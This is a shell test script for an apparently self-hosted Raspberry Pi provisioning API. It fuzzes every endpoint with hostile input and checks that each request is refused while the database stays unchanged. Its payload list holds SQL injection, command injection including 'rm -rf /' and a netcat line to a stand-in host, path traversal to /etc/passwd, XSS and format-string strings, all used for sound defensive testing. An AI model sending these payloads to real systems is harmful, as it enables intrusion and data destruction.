#!/bin/sh
test_description='hostile requests (long, binary, NUL, nested JSON, huge numbers, SQL and shell metacharacters): every one refused, the API still answers, the database unchanged'
. "${0%/*}/lib.sh"
. "$PB_TOP/t/lib-api.sh"
api_start

# hit METHOD PATH [curl args]: one request; its status goes to ./codes.
hit() {
	hm=$1 hp=$2
	shift 2
	curl -s -o /dev/null -w "%{http_code} $hm $hp\n" -X "$hm" "$@" \
		"$PB_URL$hp" >>codes || echo "000 $hm $hp curl failed" >>codes
}

test_expect_success 'setup: a token, a workflow, a node; snapshot of the database' '
	api_operator &&
	wf_add pi-img aarch64 "{\"install_method\":\"image\",\"image_url\":\"http://s/i.img\",\"target_device\":\"/dev/mmcblk0\"}" &&
	api GET "/api/v1/boot/pi?serial=d83add36&mac=dc:a6:32:01:02:03" >/dev/null &&
	node_id d83add36 >id &&
	db_snapshot >before
'

# One hostile value a line: each goes into every field and parameter.
# None of them is valid anywhere (1e999999 would be a serial!).
cat >hostile <<'EOF2'
'; DROP TABLE pureboot.nodes; --
x' OR '1'='1
d83add36'--
d83add36 
 d83add36
$(reboot)
`id`
; rm -rf / #
| nc 10.0.0.1 4444
../../../../etc/passwd
%s%s%s%n%n%n
<script>alert(1)</script>
-1
1e9999999.5
-99999999999999999999999999999999
null;
{"a":[1,2,{"b":null}]}
é€𝄞‮
\\x00\\x01
PB_TOKEN='x'
EOF2

test_expect_success 'every field and parameter with every hostile value' '
	: >codes &&
	id=$(cat id) && tok=$(op_token) &&
	long=$(head -c 5000 /dev/zero | tr "\0" A) &&
	{ cat hostile && printf "%s\n" "$long"; } >values &&
	while IFS= read -r v; do
		u=$(jq -rn --arg v "$v" "\$v|@uri") &&
		jq -cn --arg v "$v" "{serial:\$v, mac:\"dc:a6:32:09:09:09\"}" >b1 &&
		jq -cn --arg v "$v" "{serial:\"0000beef\", mac:\$v}" >b2 &&
		jq -cn --arg v "$v" "{serial:\"0000beef\", mac:\"dc:a6:32:09:09:09\", model:\$v, ip_address:\$v}" >b3 &&
		jq -cn --arg v "$v" "{hostname:\$v}" >b4 &&
		jq -cn --arg v "$v" "{workflow_id:\$v}" >b5 &&
		jq -cn --arg v "$v" "{to:\$v}" >b6 &&
		jq -cn --arg v "$v" "{type:\$v}" >b7 &&
		jq -cn --arg v "$v" "{server_url:\$v}" >b8 &&
		jq -cn --arg v "$v" "{(\$v):1}" >b9 &&
		J="Content-Type: application/json" && A="Authorization: Bearer $tok" &&
		hit POST /api/v1/nodes/register-pi -H "$J" --data-binary @b1 &&
		hit POST /api/v1/nodes/register-pi -H "$J" --data-binary @b2 &&
		hit POST /api/v1/nodes/register-pi -H "$J" --data-binary @b3 &&
		hit POST /api/v1/nodes/register-pi -H "$J" --data-binary @b9 &&
		hit GET "/api/v1/boot/pi?serial=$u" &&
		hit GET "/api/v1/boot/pi?serial=d83add36&mac=$u" &&
		hit GET "/api/v1/boot/pi?serial=d83add36&format=$u" &&
		hit PATCH "/api/v1/nodes/$id" -H "$J" -H "$A" --data-binary @b4 &&
		hit PATCH "/api/v1/nodes/$id" -H "$J" -H "$A" --data-binary @b5 &&
		hit POST "/api/v1/nodes/$id/transition" -H "$J" -H "$A" --data-binary @b6 &&
		hit POST "/api/v1/nodes/$id/events" -H "$J" -H "$A" --data-binary @b7 &&
		hit PATCH /api/v1/settings -H "$J" -H "$A" --data-binary @b8 &&
		hit GET "/api/v1/nodes?state=$u" -H "$A" &&
		hit GET "/api/v1/nodes/$u" -H "$A" &&
		hit GET "/api/v1/workflows/$u" -H "$A" &&
		hit GET /api/v1/nodes -H "Authorization: Bearer $v" || return 1
	done <values &&
	test "$(wc -l <codes)" -ge 300
'

test_expect_success 'binary, NUL, nested, huge-number and malformed bodies' '
	id=$(cat id) && tok=$(op_token) &&
	J="Content-Type: application/json" && A="Authorization: Bearer $tok" &&
	i=0 &&
	while [ $i -lt 10 ]; do
		head -c $((i * 997 + 1)) /dev/urandom >bin &&
		hit POST /api/v1/nodes/register-pi -H "$J" --data-binary @bin &&
		hit POST "/api/v1/nodes/$id/events" -H "$J" -H "$A" --data-binary @bin &&
		i=$((i + 1)) || return 1
	done &&
	printf "{\"serial\":\"d83add36\0\",\"mac\":\"dc:a6:32:01:02:03\"}" >nul1 &&
	printf "{\"serial\":\"d83add36\\\\u0000\",\"mac\":\"dc:a6:32:01:02:03\"}" >nul2 &&
	printf "\0\0\0\0" >nul3 &&
	{ head -c 100000 /dev/zero | tr "\0" "["; } >deep1 &&
	{ i=0; while [ $i -lt 3000 ]; do printf "{\"a\":"; i=$((i + 1)); done; printf 1; } >deep2 &&
	printf "{\"type\":\"install_progress\",\"bytes\":1e999999}" >num1 &&
	printf "{\"type\":\"install_progress\",\"bytes\":123456789012345678901234567890}" >num2 &&
	printf "{\"type\":\"install_progress\",\"bytes\":-9223372036854775809}" >num3 &&
	printf "{\"type\":\"install_progress\",\"bytes\":9007199254740993}" >num4 &&
	printf "{\"type\":\"install_progress\",\"bytes\":1,\"percent\":1e2}" >num5 &&
	printf "{\"type\":\"install_failed\",\"reason\":\"\\\\ud800\"}" >surr &&
	printf "{\"serial\":\"\\xc0\\xaf\"}" >overlong &&
	printf "{\"serial\":\"d83add36\",}" >trail &&
	printf "{\"serial\":\"d83add36\"} {}" >two &&
	printf "\"just a string\"" >str &&
	printf "" >empty &&
	for f in nul1 nul2 nul3 deep1 deep2 num1 num2 num3 num4 num5 surr overlong trail two str; do
		hit POST /api/v1/nodes/register-pi -H "$J" --data-binary @$f &&
		hit POST "/api/v1/nodes/$id/events" -H "$J" -H "$A" --data-binary @$f &&
		hit PATCH /api/v1/settings -H "$J" -H "$A" --data-binary @$f || return 1
	done &&
	hit POST "/api/v1/nodes/$id/events" -H "$J" -H "$A" --data-binary @empty &&
	hit GET "/api/v1/boot/pi?serial=d83add36%00" &&
	hit GET "/api/v1/boot/pi?serial=%" &&
	hit GET "/api/v1/boot/pi?%00=1" &&
	hit GET "/api/v1/boot/pi?serial=d83add36&&&&&&&&&=&=&" &&
	hit GET "/api/v1/boot/pi?$(head -c 7000 /dev/zero | tr "\0" "&")" &&
	hit GET "/api/v1/nodes/$(head -c 3000 /dev/zero | tr "\0" a)" -H "$A" &&
	hit GET "/api/v1/nodes/%00" -H "$A" &&
	hit GET "/api/v1/nodes/..%2F..%2Fetc%2Fpasswd" -H "$A" &&
	hit FOO /api/v1/nodes -H "$A" &&
	hit TRACE /api/v1/nodes -H "$A" &&
	hit DELETE /api/v1/settings -H "$A" &&
	hit POST /api/v1/nodes/register-pi -H "Content-Type: application/json; charset=latin1; x=$(head -c 3000 /dev/zero | tr "\0" y)" --data-binary @trail &&
	hit POST /api/v1/nodes/register-pi -H "Content-Type: application/x-www-form-urlencoded" --data "serial=d83add36" &&
	hit GET /api/v1/nodes -H "Authorization: Bearer pb1.000000000000.$(head -c 43 /dev/zero | tr "\0" A)" &&
	hit GET /api/v1/nodes -H "Authorization: Bearer pbi1.0000000000000000.$(head -c 43 /dev/zero | tr "\0" A)" &&
	hit GET /api/v1/nodes -H "Authorization: $(head -c 6000 /dev/zero | tr "\0" B)"
'

# ask METHOD PATH [curl args]: the status and the error message, which
# must be there (jq fails on an empty or non-JSON body).
ask() {
	am=$1 ap=$2
	shift 2
	curl -s -o reply -w "%{http_code}" -X "$am" "$@" "$PB_URL$ap" >status &&
	printf "%s %s\n" "$(cat status)" "$(jq -er .error.message reply)"
}

test_expect_success 'bytes >= 0x80 (valid UTF-8 or not, cut mid-character or not) get a 400 with a JSON reason' '
	J="Content-Type: application/json" &&
	ask GET "/api/v1/boot/pi?serial=aa%aa0001" >actual &&
	printf "%s\n" "400 boot/pi: serial \"aa\\xaa0001\" is not 8 hex digits" >expect &&
	test_cmp expect actual &&
	mac="dc:a6:32:01:02:03:04:05:06:07:08:09:10:é" &&
	jq -cn --arg m "$mac" "{serial:\"0000beef\", mac:\$m}" >body &&
	ask POST /api/v1/nodes/register-pi -H "$J" --data-binary @body >actual &&
	grep "^400 register-pi: mac " actual &&
	grep -F "09:10:\\xc3..." actual &&
	printf "{\"s\\u00e9rial\":1,\"\xff\":2}" >body &&
	ask POST /api/v1/nodes/register-pi -H "$J" --data-binary @body >actual &&
	grep "^400 " actual &&
	jq -cn "{(\"x\" * 39 + \"é\"):1}" >body &&
	ask POST /api/v1/nodes/register-pi -H "$J" --data-binary @body >actual &&
	grep "^400 register-pi: unknown field " actual && grep -F "xxx\\xc3..." actual
'

test_expect_success 'at least 200 hostile requests, every one refused with a 4xx' '
	test "$(wc -l <codes)" -ge 200 &&
	! grep -v "^4[0-9][0-9] " codes
'

test_expect_success 'the API still answers and the database is unchanged' '
	echo "200 {\"status\":\"ok\",\"database\":\"ok\"}" >expect &&
	for i in 1 2 3 4; do
		api GET /api/v1/health >actual && test_cmp expect actual || return 1
	done &&
	db_snapshot >after &&
	test_cmp before after
'

test_done
